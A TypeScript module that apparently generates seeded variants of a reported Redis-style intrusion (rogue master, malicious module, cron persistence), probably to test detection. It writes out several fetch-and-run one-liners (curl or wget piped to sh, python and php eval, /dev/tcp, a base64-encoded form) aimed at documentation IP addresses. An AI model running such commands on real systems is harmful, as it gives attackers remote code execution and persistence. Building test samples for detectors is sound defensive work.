/** What one attacker chooses and the next one chooses differently. */
export interface Variant {
  /** Names of four keys. */
  readonly keys: readonly [string, string, string, string];
  readonly host: string;
  /** Of the web server, and of the rogue master. */
  readonly port: number;
  readonly masterPort: number;
  readonly path: string;
  /** The module's file. */
  readonly module: string;
  /** A command that fetches and runs. */
  readonly drop: string;
  readonly before: string;
  readonly after: string;
  readonly schedule: string;
  readonly cronFile: string;
  /** Writes a command's name in its way. */
  readonly spell: (name: string) => string;
}

const URL = 'http://203.0.113.9/b2f628/init.sh';

/** Names as the reports have them, with documentation addresses. */
export const AS_REPORTED: Variant = {
  keys: ['backup1', 'backup2', 'backup3', 'backup4'],
  host: '203.0.113.9',
  port: 80,
  masterPort: 60_114,
  path: '/b2f628/init.sh',
  module: 'exp.so',
  drop: `curl -fsSL ${URL} | sh`,
  before: '\n\n\n',
  after: '\n\n',
  schedule: '*/2 * * * *',
  cronFile: 'root',
  spell: (name) => name.toLowerCase(),
};

/** A number generator of 32 bits (mulberry32): the same variants in every run. */
function random(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

export function variantOf(seed: number): Variant {
  const next = random(seed);
  const below = (limit: number): number => Math.floor(next() * limit);
  const one = <T>(items: readonly [T, ...T[]]): T => items[below(items.length)] ?? items[0];
  const word = (): string =>
    Array.from({ length: 4 + below(6) }, () => 'abcdefghijklmnopqrstuvwxyz'[below(26)]).join('');
  const host = `198.51.100.${1 + below(250)}`;
  const port = one([80, 8_080, 443, 9_001, 1_337]);
  const path = `/${word()}/${word()}`;
  const url = `http://${host}:${port}${path}`;
  const base64 = (text: string): string => Buffer.from(text).toString('base64');
  const plain = [
    `curl -s ${url}|bash`,
    `wget -q -O- ${url} | sh`,
    `python3 -c "import urllib.request as u;exec(u.urlopen('${url}').read())"`,
    `perl -MLWP::Simple -e 'getprint "${url}"' | sh`,
    `lwp-download ${url} /tmp/.x; chmod +x /tmp/.x; /tmp/.x`,
    `bash -c 'exec 7<>/dev/tcp/${host}/${port} && cat <&7 > /tmp/.z && chmod +x /tmp/.z && /tmp/.z'`,
    `busybox wget -qO- ${url}|busybox sh`,
    `php -r "eval(file_get_contents('${url}'));"`,
  ] as const;
  const drop = one([...plain, `echo ${base64(plain[below(2)] ?? plain[0])} | base64 -d | bash`] as [
    string,
    ...string[],
  ]);
  return {
    keys: [word(), word(), word(), word()],
    host,
    port,
    masterPort: one([4_444, 31_337, 8_888, 2_222, 52_000]),
    path,
    module: `${word()}.so`,
    drop,
    before: one(['\n', '\n\n', '\t\n', '\r\n\r\n', '\n \n', '\n\n\n\n\n']),
    after: one(['\n', '\n\n', '\n\t##', '\n\t']),
    schedule: one(['*/7 * * * *', '* * * * *', '@hourly', '*/11 */2 * * *', '@reboot']),
    cronFile: one(['root', 'crontab', word(), 'www-data']),
    spell: one([
      (name: string): string => name.toLowerCase(),
      (name: string): string => name.toUpperCase(),
      (name: string): string => name[0]?.toUpperCase() + name.slice(1).toLowerCase(),
    ]),
  };
}
